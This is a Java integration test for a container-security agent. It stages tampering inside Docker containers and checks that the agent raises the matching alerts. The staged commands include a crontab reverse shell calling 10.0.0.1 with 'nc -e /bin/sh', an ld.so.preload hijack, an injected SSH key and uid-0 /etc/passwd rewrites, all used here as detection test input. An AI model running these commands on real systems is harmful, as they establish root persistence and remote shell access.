@@ -1,0 +1,154 @@
+package dev.dockward.agent.it;
+
+import static dev.dockward.agent.it.Records.parse;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import dev.dockward.agent.config.AgentConfig;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import java.util.concurrent.locks.LockSupport;
+import java.util.function.Predicate;
+import org.junit.jupiter.api.Tag;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.RegisterExtension;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * Tampering with a container from inside it, for real on dockerd (vfs storage driver here):
+ * persistence written into the container's own file system, and block devices and debugfs
+ * mounted in it. Each attack raises its rule on the attacking container and on no other.
+ */
+@Tag("integration")
+class ContainerTamperingIT {
+  private static final Duration DEADLINE = Duration.ofSeconds(60);
+  private static final List<String> NO_NETWORK = List.of("--network=none");
+
+  @RegisterExtension
+  final AgentUnderTest harness = new AgentUnderTest();
+  private final DockerCli docker = harness.docker();
+  private final LineCapture stdout = harness.stdout();
+  private final List<Map<String, Object>> parsed = new ArrayList<>();
+
+  @TempDir
+  Path journalDir;
+
+  /** The agent with netlink on, the /proc rescan off, events printed too, every alert printed (no dedupe). */
+  private void startAgent() throws Exception {
+    AgentConfig config = AgentUnderTest.config(journalDir)
+        .withAlerts(new AgentConfig.Alerts("0s", null))
+        .withSources(new AgentConfig.Sources(new AgentConfig.ProcScan(false, null), null,
+            new AgentConfig.Cgroup(false, null), new AgentConfig.Netlink(true)))
+        .withSinks(new AgentConfig.Sinks(new AgentConfig.Stdout("auto", "jsonl", true), null));
+    harness.start(config, Records.bundledRules());
+  }
+
+  @SuppressWarnings("unchecked")
+  private static Map<String, Object> object(Object o) {
+    return o instanceof Map ? (Map<String, Object>) o : Map.of();
+  }
+
+  private static String containerId(Map<String, Object> r) {
+    return String.valueOf(object(r.get("container")).getOrDefault("id", ""));
+  }
+
+  private static boolean isEvent(Map<String, Object> r, String type, String id) {
+    return "event".equals(r.get("kind")) && type.equals(r.get("type")) && id.equals(containerId(r));
+  }
+
+  private static boolean isAlert(Map<String, Object> r, String rule, String id) {
+    return "alert".equals(r.get("kind")) && rule.equals(r.get("rule")) && id.equals(containerId(r));
+  }
+
+  private synchronized List<Map<String, Object>> records() {
+    List<String> lines = stdout.lines();
+    for (int i = parsed.size(); i < lines.size(); i++) {
+      parsed.add(parse(lines.get(i)));
+    }
+    return List.copyOf(parsed);
+  }
+
+  /** The first record that {@code match} accepts, polled until the deadline. */
+  private Map<String, Object> await(Predicate<Map<String, Object>> match, String what) {
+    long end = System.nanoTime() + DEADLINE.toNanos();
+    while (true) {
+      List<Map<String, Object>> all = records();
+      for (int i = 0; i < all.size(); i++) {
+        if (match.test(all.get(i))) {
+          System.err.println(what + ": " + stdout.lines().get(i)); // the line as printed: fixtures are taken from it
+          return all.get(i);
+        }
+      }
+      if (System.nanoTime() > end) {
+        throw new AssertionError("not within " + DEADLINE + ": " + what + "; records: " + records().stream()
+            .map(r -> r.get("kind") + "/" + r.getOrDefault("type", r.get("rule")) + "/" + containerId(r)).toList());
+      }
+      LockSupport.parkNanos(Duration.ofMillis(100).toNanos());
+    }
+  }
+
+  private String start(String base, List<String> options, String... command) throws Exception {
+    String id = docker.runDetached(DockerCli.uniqueName("h-covsense-" + base), options, command);
+    await(r -> isEvent(r, "container_start", id), "container_start of " + base);
+    return id;
+  }
+
+  private List<String> ownWrites(String id) {
+    return records().stream().filter(r -> isEvent(r, "container_file_write", id))
+        .map(r -> String.valueOf(object(r.get("container_file_write")).get("path"))).toList();
+  }
+
+  @Test
+  void persistenceWrittenIntoTheContainersOwnFilesRaisesItsRulesOnThatContainerOnly() throws Exception {
+    startAgent();
+    String bystander = start("bystander", NO_NETWORK, "sleep", "300");
+    String id = start("persist", NO_NETWORK, "sleep", "300");
+    // A preload entry, a crontab, an SSH key; a scratch file that does not matter; /etc/passwd
+    // rewritten 50 times; then a marker written last: the watch reads one queue in order, so once
+    // the marker is reported everything before it was judged. The shell lives on a second so
+    // that it is read as the writer.
+    docker.docker("exec", id, "sh", "-c", "echo /tmp/evil.so > /etc/ld.so.preload;"
+        + " mkdir -p /etc/crontabs /root/.ssh; echo '* * * * * nc -e /bin/sh 10.0.0.1 4444' > /etc/crontabs/root;"
+        + " echo 'ssh-ed25519 AAAA x' >> /root/.ssh/authorized_keys; echo scratch > /tmp/scratch;"
+        + " i=0; while [ $i -lt 50 ]; do echo \"u$i:x:0:0::/:/bin/sh\" > /etc/passwd; i=$((i+1)); done;"
+        + " echo done > /etc/zz-marker; sleep 1");
+
+    await(r -> isEvent(r, "container_file_write", id)
+        && "/etc/ld.so.preload".equals(object(r.get("container_file_write")).get("path")), "preload write");
+    Map<String, Object> preload = await(r -> isAlert(r, "container_loader_preload_write", id), "preload alert");
+    assertEquals("critical", preload.get("severity"));
+    Map<String, Object> evidence = object(preload.get("evidence"));
+    assertEquals("/etc/ld.so.preload", evidence.get("path"));
+    // the writer named: the shell that wrote it (busybox's sh, comm "sh" or "exe"), with its pid
+    assertTrue(String.valueOf(evidence.get("writer")).matches("(sh|exe) \\(pid [1-9][0-9]*\\)"), preload.toString());
+    assertTrue(String.valueOf(evidence.get("cmdline")).contains("ld.so.preload"), preload.toString());
+
+    Map<String, Object> cron = await(r -> isAlert(r, "container_persistence_write", id)
+        && "/etc/crontabs/root".equals(object(r.get("evidence")).get("path")), "crontab alert");
+    assertEquals("high", cron.get("severity"));
+    assertEquals("cron", object(cron.get("evidence")).get("category"));
+    await(r -> isAlert(r, "container_persistence_write", id)
+        && "/root/.ssh/authorized_keys".equals(object(r.get("evidence")).get("path")), "authorized_keys alert");
+    await(r -> isEvent(r, "container_file_write", id)
+        && "/etc/zz-marker".equals(object(r.get("container_file_write")).get("path")), "the marker's write");
+
+    List<String> writes = ownWrites(id);
+    assertEquals(1, writes.stream().filter("/etc/passwd"::equals).count(), "50 rewrites, one event: " + writes);
+    assertTrue(writes.stream().noneMatch(p -> p.startsWith("/tmp/")), "a scratch file is no event: " + writes);
+    assertTrue(records().stream().noneMatch(r -> "alert".equals(r.get("kind")) && bystander.equals(containerId(r))),
+        "nothing about the bystander");
+  }
+
+  @Test
+  void aContainerThatWritesThePreloadListTheMomentItStartsIsCaught() throws Exception {
+    startAgent();
+    // Not waited for: the write may come before Docker announced the container.
+    String id = docker.runDetached(DockerCli.uniqueName("h-covsense-early"), NO_NETWORK, "sh", "-c",
+        "echo /tmp/evil.so > /etc/ld.so.preload; sleep 2");
+    Map<String, Object> alert = await(r -> isAlert(r, "container_loader_preload_write", id), "preload alert");
+    assertEquals("/etc/ld.so.preload", object(alert.get("evidence")).get("path"));
+  }
+}
